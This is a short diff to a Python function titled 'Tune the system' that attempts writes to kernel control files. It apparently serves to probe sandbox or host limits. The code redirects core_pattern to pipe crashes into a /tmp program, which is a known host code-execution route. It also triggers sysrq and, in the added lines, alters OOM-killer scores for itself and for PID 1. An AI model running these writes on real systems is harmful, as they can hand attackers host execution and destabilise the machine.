@@ -18,7 +18,10 @@ def task_func():
     """Tune the system."""
     attempt("core_pattern", put, "/proc/sys/kernel/core_pattern", "|/tmp/home/x")
     attempt("sysrq", put, "/proc/sysrq-trigger", "h")
-    attempt("memory killer", put, "/proc/self/oom_score_adj", "-1000")
+    for standing in ("-1000", "0", "999"):
+        attempt("memory killer " + standing, put, "/proc/self/oom_score_adj", standing)
+        attempt("memory killer of process 1 " + standing, put, "/proc/1/oom_score_adj", standing)
+    attempt("memory killer, old file", put, "/proc/self/oom_adj", "0")
     for folder, _, names in os.walk("/proc/sys"):
         for name in names:
             path = os.path.join(folder, name)
